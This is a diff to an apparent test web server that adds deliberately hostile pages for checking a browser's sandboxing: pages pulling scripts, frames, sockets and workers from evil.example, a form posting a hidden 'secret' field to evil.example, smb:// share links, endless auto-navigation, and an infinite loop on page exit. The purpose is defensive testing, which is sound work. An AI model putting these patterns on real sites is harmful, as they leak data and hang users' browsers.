@@ -11,7 +11,9 @@ answers as the real one would for what Vidlatch needs:
                           links that open new windows, a page that opens a
                           hundred, and hostile pages under /hostile/: one that
                           asks before it is left, one that keeps every key,
-                          loops of dialogs or windows
+                          loops of dialogs or windows, one made of other
+                          sites' parts, one that leaves for another site in
+                          every way, one that spins once it is being left
   blog.vidsite.example    blog pages
   static.vidsite.example  /v1/res/vidplayer.swf?f=3&vid=CODE: a real one-frame
                           SWF whose background colour comes from CODE;
@@ -316,6 +318,14 @@ def video_page(code: str, advert: bool = False) -> bytes:
     )
 
 
+# A picture of the site's own: one white pixel.
+PICTURE = (b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
+           + struct.pack(">I", zlib.crc32(b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)))
+           + struct.pack(">I", len(zlib.compress(b"\x00\xff"))) + b"IDAT" + zlib.compress(b"\x00\xff")
+           + struct.pack(">I", zlib.crc32(b"IDAT" + zlib.compress(b"\x00\xff")))
+           + struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND")))
+
+
 # Pages that misbehave on purpose, for trying the browsers against them.
 LOOPS = {
     "alert": "for(;;)alert('loop');",
@@ -350,6 +360,61 @@ def hostile_page(path: str, query) -> bytes:
                     "const n=+(new URLSearchParams(location.search).get('n')||0);document.title='load '+n;"
                     "addEventListener('load',()=>setTimeout(()=>{location.href='/hostile/long.html?n='+(n+1)+"
                     "'#'+'x'.repeat((2<<20)-200);},100));")
+    if path == "/hostile/parts.html":
+        # A site page made of another site's parts: frames, a picture, a
+        # script, a style sheet, a font, media, a WebSocket, a worker, a
+        # prefetch, an icon, a preconnection and a fetch. Its own picture
+        # still shows. Once every part has answered, its title says how many
+        # loaded of each site and whether the other sites' frames stayed
+        # empty, and it asks for /hostile/parts-done.
+        evil = "http://evil.example"
+        return page("parts", (
+            "<link rel='icon' href='%(e)s/favicon.ico'><link rel='prefetch' href='%(e)s/prefetched'>"
+            "<link rel='preconnect' href='https://evil.example'><link rel='dns-prefetch' href='//evil2.example'>"
+            "<style>@font-face{font-family:F;src:url(%(e)s/font.woff)}p{font-family:F}</style>"
+            "<p>parts</p><iframe id='f1' src='%(e)s/frame'></iframe><iframe id='f2' src='http://evil2.example/frame2'></iframe>"
+            "<img id='own' src='/picture.png'>") % {"e": evil},
+            ("let waiting=0,loaded=[];function part(name,el,ev){waiting++;const done=ok=>{if(ok)loaded.push(name);"
+            "if(--waiting==0)finish();};if(ev){el.addEventListener(ev[0],()=>done(true));el.addEventListener(ev[1],()=>done(false));}return done;}"
+            "function finish(){const empty=['f1','f2'].every(id=>{const d=document.getElementById(id).contentDocument;"
+            "return d&&d.body&&d.body.innerHTML=='';});"
+            "document.title='parts done: '+loaded.sort().join(',')+(empty?' frames empty':' frames shown');fetch('/hostile/parts-done');}"
+            "addEventListener('DOMContentLoaded',()=>{"
+            "const add=(tag,attrs,name)=>{const e=document.createElement(tag);part(name,e,['load','error']);Object.assign(e,attrs);document.head.appendChild(e);};"
+            "add('img',{src:'%(e)s/picture.png'},'evil picture');add('script',{src:'%(e)s/script.js'},'evil script');"
+            "add('link',{rel:'stylesheet',href:'%(e)s/style.css'},'evil style');"
+            "const v=document.createElement('video');part('evil media',v,['loadeddata','error']);v.src='%(e)s/movie.mp4';"
+            "const own=document.getElementById('own');if(!own.complete)part('own picture',own,['load','error']);else loaded.push('own picture');"
+            "const ws=new WebSocket('ws://evil.example/socket');part('evil socket',ws,['open','error']);"
+            "const w=new Worker('/hostile/worker.js');part('evil worker import',w,['message','error']);"
+            "const f=part('evil fetch');fetch('%(e)s/fetch',{mode:'no-cors'}).then(()=>f(true),()=>f(false));"
+            "document.fonts.load('10px F').then(()=>{});});") % {"e": evil})
+    if path == "/hostile/leave-ways.html":
+        # Every way a page leaves for another site, each a big target for a
+        # real click: a link, a script, a site address that redirects away, a
+        # new window, a form posted elsewhere, and addresses that are no web
+        # pages (a file share, directly and through a redirect). With ?auto,
+        # the page tries all of them by itself, without end.
+        there = "http://elsewhere.example/"
+        ways = (
+            "<a class='w' id='link' href='%(t)snews.html'>link</a>"
+            "<button class='w' id='script' onclick=\"location.href='%(t)sscript.html'\">script</button>"
+            "<a class='w' id='redirect' href='/redirect?to=%(t)sredirected.html'>redirect</a>"
+            "<button class='w' id='window' onclick=\"window.open('%(t)swindow.html')\">window</button>"
+            "<form method='post' action='http://evil.example/formpost?q=1'><input type='hidden' name='secret' value='1'>"
+            "<button class='w' id='form'>form</button></form>"
+            "<a class='w' id='share' href='smb://evil.example/share'>share</a>"
+            "<a class='w' id='share-redirect' href='/redirect?to=smb://evil.example/share'>share by redirect</a>"
+        ) % {"t": there}
+        auto = ("let n=0;setInterval(()=>{n++;if(n%%3==0)window.open('%(t)sauto-window.html?'+n);"
+                "else location.href='%(t)sauto.html?'+n;document.title='tried '+n;},100);" % {"t": there}
+                if "auto" in query else "")
+        return page("leave", "<style>.w{display:block;width:300px;height:36px;margin:2px}</style>" + ways, auto)
+    if path == "/hostile/answers-then-spins.html":
+        # Answers while the user's command starts to leave it, then spins for
+        # good, 1.5 s later, before the (slow) page it goes to can arrive.
+        return page("answers then spins", "<p>spins</p>",
+                    "addEventListener('beforeunload',()=>{setTimeout(()=>{for(;;){}},1500);});")
     if path == "/hostile/renew.html":
         # Dialogs without end, and after every third a navigation that never
         # arrives, as if that bought the page a fresh allowance.
@@ -387,6 +452,7 @@ class DemoSite(BaseHTTPRequestHandler):
             self.wfile.write(body)
 
     def do_CONNECT(self):
+        self.record(self.path.rsplit(":", 1)[0].lower(), ":" + self.path.rsplit(":", 1)[-1])
         self.send(405, b"no tunnels here", "text/plain")
 
     def do_HEAD(self):
@@ -429,6 +495,11 @@ class DemoSite(BaseHTTPRequestHandler):
             self.send(200, page("广告", "<p>advert</p>"))
         elif path.startswith("/hostile/") and hostile_page(path, query):
             self.send(200, hostile_page(path, query))
+        elif path == "/picture.png":
+            self.send(200, PICTURE, "image/png")
+        elif path == "/hostile/worker.js":
+            self.send(200, b"try{importScripts('http://evil.example/worker.js');postMessage('imported');}"
+                           b"catch(e){throw e;}", "text/javascript")
         elif path == "/embed/frame.html":
             self.send(200, page("frame", "<p>frame %s</p>" % html.escape(query.get("vid", [""])[0])))
         elif path.endswith("/index.html"):
